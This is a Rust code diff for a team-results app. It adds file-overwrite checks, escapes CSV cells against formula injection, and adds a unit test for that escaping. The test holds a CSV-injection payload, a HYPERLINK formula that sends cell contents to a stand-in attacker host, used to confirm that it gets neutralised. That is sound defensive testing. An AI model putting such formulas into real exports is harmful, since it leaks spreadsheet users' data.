@@ -740,9 +740,11 @@ impl<'a> Teams<'a> {
         req: TeamResultsRequest,
         format: &str,
         path: &std::path::Path,
+        overwrite: crate::output::Overwrite,
     ) -> Result<()> {
+        let path = crate::output::check(&self.ctx.paths, path, overwrite)?;
         let text = self.export_results(req, format).await?;
-        crate::util::write_file(path, text.into_bytes()).await
+        crate::output::write_file(&self.ctx.paths, &path, text.into_bytes()).await
     }
 
     /// Writes the coaching report on a round's team results: the coach of one person's result, on the team's
@@ -868,9 +870,15 @@ impl<'a> Teams<'a> {
     }
 
     /// Writes [`Teams::export_report`] to `path` (a file the user chose), never leaving half a file.
-    pub async fn save_report(&self, round_id: &str, path: &std::path::Path) -> Result<()> {
+    pub async fn save_report(
+        &self,
+        round_id: &str,
+        path: &std::path::Path,
+        overwrite: crate::output::Overwrite,
+    ) -> Result<()> {
+        let path = crate::output::check(&self.ctx.paths, path, overwrite)?;
         let md = self.export_report(round_id).await?;
-        crate::util::write_file(path, md.into_bytes()).await
+        crate::output::write_file(&self.ctx.paths, &path, md.into_bytes()).await
     }
 
     /// This person's own scores for rounds, from their latest completed assessment of each round and pillar
@@ -1031,13 +1039,14 @@ fn results_csv(t: &TeamResults) -> Result<String> {
     ])
     .map_err(err)?;
     for r in &t.rounds {
+        let text = |s: &str| crate::util::csv_text(s).into_owned();
         let base = [
-            r.round_id.clone(),
+            text(&r.round_id),
             r.number.to_string(),
-            r.created_at.clone().unwrap_or_default(),
-            r.title.clone(),
-            r.mode.clone(),
-            r.state.clone(),
+            text(r.created_at.as_deref().unwrap_or_default()),
+            text(&r.title),
+            text(&r.mode),
+            text(&r.state),
             r.responses.to_string(),
             r.counted.map(|n| n.to_string()).unwrap_or_default(),
             r.needed.to_string(),
@@ -1049,8 +1058,8 @@ fn results_csv(t: &TeamResults) -> Result<String> {
         }
         for f in &r.figures {
             let mut row: Vec<String> = base.to_vec();
-            row.push(f.pillar_name.clone());
-            row.push(f.force_name.clone().unwrap_or_default());
+            row.push(text(&f.pillar_name));
+            row.push(text(f.force_name.as_deref().unwrap_or_default()));
             row.push(f.n.to_string());
             for x in [f.mean, f.sd] {
                 row.push(format!("{x:.0}"));
@@ -1070,6 +1079,59 @@ fn results_csv(t: &TeamResults) -> Result<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Whatever text reaches the team CSV (from the server or the framework), no cell starts a formula.
+    #[test]
+    fn the_team_csv_runs_no_formula() {
+        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        let t = TeamResults {
+            team_id: "t".into(),
+            rounds: vec![RoundResults {
+                round_id: hostile.into(),
+                number: 1,
+                round_label: hostile.into(),
+                state: "+shown".into(),
+                label: hostile.into(),
+                responses: 5,
+                members: 6,
+                needed: 5,
+                counted: Some(5),
+                pillar: None,
+                mode: "@mode".into(),
+                title: hostile.into(),
+                created_at: Some("-2026".into()),
+                closed_at: None,
+                figures: vec![ResultFigure {
+                    pillar: "p".into(),
+                    pillar_name: "\tpillar".into(),
+                    force: None,
+                    force_name: Some("\rforce".into()),
+                    n: 5,
+                    mean: 50.0,
+                    band: crate::domain::Band::Mixed,
+                    sd: 3.0,
+                    spread: Spread::Close,
+                    spread_label: String::new(),
+                    histogram: vec![0, 0, 5, 0, 0],
+                    mine: None,
+                }],
+            }],
+        };
+        let csv = results_csv(&t).unwrap();
+        let mut r = csv::Reader::from_reader(csv.as_bytes());
+        let mut cells = 0;
+        for rec in r.records() {
+            for cell in rec.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+            }
+        }
+        assert_eq!(cells, 19);
+        assert!(csv.contains("'=HYPERLINK"));
+    }
 
     #[test]
     fn a_code_or_its_link_gives_the_same_code() {
